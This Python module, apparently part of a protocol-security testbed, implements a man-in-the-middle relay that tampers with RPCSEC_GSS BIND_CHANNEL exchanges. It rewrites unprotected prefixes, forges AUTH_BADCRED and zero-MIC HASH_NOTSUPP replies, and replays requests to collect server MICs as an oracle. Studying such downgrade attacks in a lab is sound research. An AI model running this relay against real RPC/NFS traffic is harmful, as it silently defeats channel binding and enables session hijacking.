"""Scenario 6's attacker: a BTNS man in the middle that edits the RPCSEC_GSS BIND_CHANNEL exchange.

Both ends latched to the relay (as in scenario 3), so a faithful relay makes BIND_CHANNEL fail
loudly: the two ends see different channels (RFC 5403 §2), the client reports MISMATCH, warns and
destroys the context. The relay's aim is to make that failure *quiet* instead -- UNSUPPORTED, "the
server cannot bind", no warning, context kept -- by editing the parts of the exchange no MIC covers.
One :class:`BindRelayEditor` per variant:

(a) ``prefix``: rewrite ``rbcva_chan_bind_prefix`` of the client's BIND_CHANNEL (the request MIC
    does not cover it): the server answers PREF_NOTSUPP listing the very prefix the client sent.
(b) ``v2-refused``: answer the client's RPCSEC_GSS v2 INIT with a forged MSG_DENIED / AUTH_BADCRED
    (what a v1-only Linux server says), so the client would build a v1 context that cannot bind.
(c) ``hash-notsupp``: answer BIND_CHANNEL itself with a forged RGSS2_BIND_CHAN_HASH_NOTSUPP whose
    first OID is unknown and whose MIC is all zeros (a MIC the client cannot check if it keys the
    check on a known first OID).
(d) ``replay``: send the client's BIND_CHANNEL to the server many times, prefix rewritten as in
    (a): each PREF_NOTSUPP answer would carry a fresh server MIC (an oracle); the relay keeps the
    extra answers for itself.

The editor only acts; what happened is judged from the wire capture by the scenario.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from enum import StrEnum

from rpclatch.gss.wire import (
    BindChanRes,
    BindChanStatus,
    BindChanVerfArgs,
    BindChanVerfRes,
    GssCred,
    GssProc,
)
from rpclatch.rpc.messages import (
    AcceptedReply,
    AuthFlavor,
    AuthStat,
    CallMessage,
    DeniedReply,
    OpaqueAuth,
    RejectStat,
    decode_message,
    peek_xid,
)
from rpclatch.xdr import XdrError


class BindAttack(StrEnum):
    PREFIX = "a"
    V2_REFUSED = "b"
    HASH_NOTSUPP = "c"
    REPLAY = "d"


#: What (a) and (d) put in place of the client's prefix: a real channel-binding type (RFC 5929),
#: which the server's IPsec latch does not offer.
REWRITTEN_PREFIX = b"tls-server-end-point"
#: (c)'s first OID: content octets of 1.3.6.1.4.1.32473.1 (documentation enterprise number, RFC
#: 5612), a hash nobody implements.
UNKNOWN_HASH_OID = bytes.fromhex("2b0601040181fd5901")
#: (c)'s MIC: as long as a krb5 AES MIC token (RFC 4121 §4.2.6.1: 16-byte header + 12-byte
#: checksum), all zeros.
ZERO_MIC = bytes(28)
#: (d): copies of the BIND_CHANNEL request sent to the server besides the first.
REPLAYS = 20


def gss_call(record: bytes) -> tuple[CallMessage, GssCred] | None:
    """The record as an RPCSEC_GSS call, or None (a reply, another flavor, or not decodable)."""
    try:
        msg = decode_message(record)
    except XdrError:
        return None
    if not isinstance(msg, CallMessage) or msg.cred.flavor != AuthFlavor.RPCSEC_GSS:
        return None
    try:
        return msg, GssCred.decode(msg.cred.body)
    except XdrError:
        return None


def rewrite_prefix(call: CallMessage, prefix: bytes) -> bytes:
    """``call`` (a BIND_CHANNEL) with ``rbcva_chan_bind_prefix`` replaced; hash OID and MIC kept."""
    verf = BindChanVerfArgs.decode(call.verf.body)
    body = replace(verf, chan_bind_prefix=prefix).encode()
    return replace(call, verf=OpaqueAuth(AuthFlavor.RPCSEC_GSS, body)).encode()


class BindRelayEditor:
    """A :class:`rpclatch.demo.testbed.RecordEditor` for one :class:`BindAttack` variant. It acts on
    the first message the variant targets and relays everything else unchanged. ``on_action`` is
    told (in words) each time it does something, for the trace."""

    def __init__(
        self, attack: BindAttack, on_action: Callable[[str], None] | None = None, replays: int = REPLAYS
    ) -> None:
        self.attack = attack
        self.on_action = on_action
        self.replays = replays
        self.acted = False
        self.target_xid: int | None = None
        self.kept: list[bytes] = []  # (d) server answers the relay kept for itself

    def _say(self, text: str) -> None:
        if self.on_action is not None:
            self.on_action(text)

    def from_client(self, record: bytes) -> tuple[list[bytes], list[bytes]]:
        if self.acted:
            return [record], []
        decoded = gss_call(record)
        if decoded is None:
            return [record], []
        call, cred = decoded
        attack = self.attack
        if attack is BindAttack.V2_REFUSED:
            if cred.gss_proc is GssProc.RPCSEC_GSS_INIT and cred.version == 2:
                self.acted, self.target_xid = True, call.xid
                self._say("attack: relay answers the v2 INIT with a forged AUTH_BADCRED")
                denied = DeniedReply(call.xid, RejectStat.AUTH_ERROR, auth_stat=AuthStat.AUTH_BADCRED)
                return [], [denied.encode()]
            return [record], []
        if cred.gss_proc is not GssProc.RPCSEC_GSS_BIND_CHANNEL:
            return [record], []
        self.acted, self.target_xid = True, call.xid
        if attack is BindAttack.HASH_NOTSUPP:
            self._say("attack: relay answers BIND_CHANNEL with a forged HASH_NOTSUPP (unknown OID, zero MIC)")
            res = BindChanRes(BindChanStatus.RGSS2_BIND_CHAN_HASH_NOTSUPP, (), (UNKNOWN_HASH_OID,))
            verf = OpaqueAuth(AuthFlavor.RPCSEC_GSS, BindChanVerfRes(res, ZERO_MIC).encode())
            return [], [AcceptedReply(call.xid, verf).encode()]
        try:
            edited = rewrite_prefix(call, REWRITTEN_PREFIX)
        except XdrError:
            return [record], []
        if attack is BindAttack.PREFIX:
            self._say(f"attack: relay rewrites the BIND_CHANNEL prefix to {REWRITTEN_PREFIX.decode()}")
            return [edited], []
        self._say(f"attack: relay sends the BIND_CHANNEL (prefix rewritten) {1 + self.replays} times")
        return [edited] * (1 + self.replays), []

    def from_server(self, record: bytes) -> tuple[list[bytes], list[bytes]]:
        xid = self.target_xid
        if self.attack is BindAttack.REPLAY and xid is not None and peek_xid(record) == xid:
            self.kept.append(record)
            if len(self.kept) > 1:
                return [], []  # an answer to a replay: the relay keeps it (the oracle's output)
        return [record], []
